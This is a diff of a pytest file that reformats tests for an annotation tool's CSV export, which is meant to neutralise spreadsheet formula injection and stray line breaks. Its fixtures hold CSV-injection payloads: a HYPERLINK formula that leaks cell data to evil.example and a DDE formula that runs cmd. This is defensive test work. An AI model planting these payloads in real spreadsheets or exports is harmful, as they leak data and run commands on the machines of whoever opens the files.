@@ -9,18 +9,32 @@ import json
 import pyarrow.csv
 import pytest
 
-from tests.conftest import csrf_token_in
-
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Details")', "+1+1", "-2+3", "@SUM(1+1)", " =1+1",
-            "\uff1d1+1", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    " =1+1",
+    "\uff1d1+1",
+    "=cmd|' /C calc'!A0",
+]
 # Label values: a formula, and cells that begin with a tab or carriage return or hold line breaks.
 VALUES = ["=1+1", "@SUM(A1)", "-1", "\t=1+1", "\r=1+1", "line\rbreak", "two\nlines", "plain"]  # one per document
-NAMES = ["=HYPERLINK(\"http://evil.example\")", "@evil", "-dash", "+plus"]
+NAMES = ['=HYPERLINK("http://evil.example")', "@evil", "-dash", "+plus"]
 
 
 def hostile_schema() -> dict:
-    return {"fields": [{"name": "claim", "label": "Claim", "level": "nominal", "required": True,
-                        "options": [{"value": value, "label": f"Option {number}"} for number, value in enumerate(VALUES)]}]}
+    return {
+        "fields": [
+            {
+                "name": "claim",
+                "label": "Claim",
+                "level": "nominal",
+                "required": True,
+                "options": [{"value": value, "label": f"Option {number}"} for number, value in enumerate(VALUES)],
+            }
+        ]
+    }
 
 
 @pytest.fixture
@@ -29,15 +43,22 @@ def hostile(runner, write_file, make_user, login, client):
     spreadsheet formulas and line breaks; returns a client signed in as its reviewer."""
     schema = write_file("schema.json", json.dumps(hostile_schema()))
     assert runner.invoke(args=["create-project", "Hostile", "--schema", str(schema), "--overlap", "4"]).exit_code == 0
-    documents = [json.dumps({"id": formula, "text": f"{formula} is what the council wrote in its report number {n}."})
-                 for n, formula in enumerate(FORMULAS)]
+    documents = [
+        json.dumps({"id": formula, "text": f"{formula} is what the council wrote in its report number {n}."})
+        for n, formula in enumerate(FORMULAS)
+    ]
     result = runner.invoke(args=["import-docs", "Hostile", str(write_file("hostile.jsonl", "\n".join(documents)))])
     assert result.exit_code == 0, result.stderr
-    labels = [json.dumps({"document_id": formula, "index": 0, "annotator": name, "note": FORMULAS[0],
-                          "labels": {"claim": VALUES[n]}})  # unanimous: the value is the gold label
-              for n, formula in enumerate(FORMULAS) for name in NAMES]
-    result = runner.invoke(args=["import-annotations", "Hostile", str(write_file("labels.jsonl", "\n".join(labels))),
-                                 "--create-users"])
+    labels = [
+        json.dumps(
+            {"document_id": formula, "index": 0, "annotator": name, "note": FORMULAS[0], "labels": {"claim": VALUES[n]}}
+        )  # unanimous: the value is the gold label
+        for n, formula in enumerate(FORMULAS)
+        for name in NAMES
+    ]
+    result = runner.invoke(
+        args=["import-annotations", "Hostile", str(write_file("labels.jsonl", "\n".join(labels))), "--create-users"]
+    )
     assert result.exit_code == 0, result.stderr
     make_user("rev", "reviewer")
     assert runner.invoke(args=["add-member", "Hostile", "rev", "--role", "reviewer"]).exit_code == 0
@@ -68,7 +89,9 @@ def test_no_cell_runs_as_a_formula_and_every_row_stays_one_row(hostile, runner):
     assert all(text.startswith("'") and "is what the council wrote" in text for text in columns["text"])
     label_sets = [json.loads(cell) for cell in columns["annotations"]]
     assert {entry["annotator"] for entries in label_sets for entry in entries} == set(NAMES)  # inside JSON: inert
-    assert sorted(columns["claim"]) == sorted(["'=1+1", "'@SUM(A1)", "'-1", "'\t=1+1", "'\r=1+1", "line\rbreak", "two\nlines"])
+    assert sorted(columns["claim"]) == sorted(
+        ["'=1+1", "'@SUM(A1)", "'-1", "'\t=1+1", "'\r=1+1", "line\rbreak", "two\nlines"]
+    )
 
     strict = pyarrow.csv.read_csv(io.BytesIO(data), parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True))
     assert strict.num_rows == len(FORMULAS) and strict.column_names == header
@@ -76,8 +99,8 @@ def test_no_cell_runs_as_a_formula_and_every_row_stays_one_row(hostile, runner):
 
 
 def test_the_download_is_as_safe_as_the_command_and_the_same_file(hostile, runner):
-    from annotator.extensions import db
     from annotator.administration.projects import find_project
+    from annotator.extensions import db
 
     project = find_project(db.session, "Hostile")
     download = hostile.get(f"/projects/{project.id}/exports/training?format=csv&names=1&context=1")
@@ -99,6 +122,21 @@ def test_a_spreadsheet_safe_cell():
     from annotator.exporting.kinds import spreadsheet_safe
 
     assert [spreadsheet_safe(cell) for cell in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "  =1", "\uff1d1")] == [
-        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "'  =1", "'\uff1d1"]
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@A1",
+        "'\tx",
+        "'\rx",
+        "'  =1",
+        "'\uff1d1",
+    ]
     assert [spreadsheet_safe(cell) for cell in ("text", "a=b", "", -1, -0.5, None, "'quoted")] == [
-        "text", "a=b", "", -1, -0.5, None, "'quoted"]
+        "text",
+        "a=b",
+        "",
+        -1,
+        -0.5,
+        None,
+        "'quoted",
+    ]
